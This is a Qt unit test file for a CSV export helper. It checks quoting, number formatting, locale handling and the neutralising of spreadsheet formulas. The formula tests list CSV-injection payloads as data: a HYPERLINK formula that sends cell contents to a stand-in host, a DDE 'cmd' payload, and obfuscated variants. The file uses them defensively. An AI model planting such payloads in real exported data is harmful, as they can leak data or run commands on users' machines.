// SPDX-License-Identifier: GPL-3.0-or-later
#include "table/csvtext.h"

#include <QTest>

#include <cmath>
#include <limits>

class TestCsvText : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void quotesWhatNeedsQuotes_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("field");
        QTest::newRow("plain") << QStringLiteral("abc") << QStringLiteral("abc");
        QTest::newRow("empty") << QString() << QString();
        QTest::newRow("comma") << QStringLiteral("a,b") << QStringLiteral("\"a,b\"");
        QTest::newRow("quote") << QStringLiteral("a\"b") << QStringLiteral("\"a\"\"b\"");
        QTest::newRow("line feed") << QStringLiteral("a\nb") << QStringLiteral("\"a\nb\"");
        QTest::newRow("carriage return") << QStringLiteral("a\rb") << QStringLiteral("\"a\rb\"");
        QTest::newRow("semicolon stays") << QStringLiteral("a;b") << QStringLiteral("a;b");
    }

    void quotesWhatNeedsQuotes()
    {
        QFETCH(QString, text);
        QTEST(core::csvField(text), "field");
    }

    void formulasBecomeTexts_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<bool>("isFormula");
        const auto row
            = [](const QString& text, bool isFormula) { QTest::newRow(qPrintable(text)) << text << isFormula; };
        row(QStringLiteral("=HYPERLINK(\"http://a/?x=\"&A1)"), true);
        row(QStringLiteral("+cmd|' /C calc'!A0"), true);
        row(QStringLiteral("-1+1"), true);
        row(QStringLiteral("@SUM(A1)"), true);
        row(QStringLiteral("\t=1+1"), true);
        row(QStringLiteral("\r\n =1+1"), true);
        row(QStringLiteral("\u200b=1"), true);
        row(QStringLiteral("\uFF1D1+1"), true);
        row(QStringLiteral("-"), true);
        row(QStringLiteral("-> forward"), true);
        row(QStringLiteral("--"), true);
        row(QStringLiteral("-3.5"), false);
        row(QStringLiteral("+5"), false);
        row(QStringLiteral("-1,234.5"), false);
        row(QStringLiteral("-1.25e-13"), false);
        row(QStringLiteral("-10.950 s"), false);
        row(QStringLiteral("-5 \u00b5s"), false);
        row(QStringLiteral("-5%"), false);
        row(QStringLiteral("-5 A1"), true);
        row(QStringLiteral("void k<(int)-1>(float*)"), false);
        row(QStringLiteral("<unnamed>::k"), false);
        row(QString(), false);
        row(QStringLiteral("  "), false);
    }

    void formulasBecomeTexts()
    {
        QFETCH(QString, text);
        QFETCH(bool, isFormula);
        QCOMPARE(core::withoutFormula(text), isFormula ? u'\'' + text : text);
    }

    void numbersKeepTheirFigure_data()
    {
        QTest::addColumn<double>("value");
        QTest::addColumn<int>("decimals");
        QTest::addColumn<QString>("text");
        QTest::newRow("three more decimals") << 42.622950819 << 1 << QStringLiteral("42.6230");
        QTest::newRow("six significant digits") << 0.0000123456789 << 1 << QStringLiteral("0.0000123457");
        QTest::newRow("zero") << 0.0 << 2 << QStringLiteral("0.00000");
        QTest::newRow("minus zero") << -0.0 << 0 << QStringLiteral("0.000");
        QTest::newRow("negative") << -1.5 << 1 << QStringLiteral("-1.50000");
        QTest::newRow("thousands without separator") << 1234567.25 << 0 << QStringLiteral("1234567.250");
        QTest::newRow("below one") << 0.5 << 3 << QStringLiteral("0.500000");
        QTest::newRow("few decimals") << 9.75 << 0 << QStringLiteral("9.75000");
        QTest::newRow("tiny") << 1.25e-13 << 1 << QStringLiteral("1.25e-13");
        QTest::newRow("huge") << 1e300 << 1 << QStringLiteral("1e+300");
        QTest::newRow("not a number") << std::nan("") << 1 << QString();
        QTest::newRow("infinite") << -std::numeric_limits<double>::infinity() << 1 << QString();
    }

    void numbersKeepTheirFigure()
    {
        QFETCH(double, value);
        QFETCH(int, decimals);
        QTEST(core::csvNumber(value, decimals), "text");
        std::string bytes = "a,";
        core::appendCsvNumber(bytes, value, decimals);
        QCOMPARE(QString::fromStdString(bytes), QStringLiteral("a,") + core::csvNumber(value, decimals));
    }

    void localeDoesNotMatter()
    {
        QLocale::setDefault(QLocale(QLocale::German));
        const auto text = core::csvNumber(1234.5, 1);
        QLocale::setDefault(QLocale::c());
        QCOMPARE(text, QStringLiteral("1234.5000"));
    }
};

QTEST_GUILESS_MAIN(TestCsvText)
#include "tst_csvtext.moc"
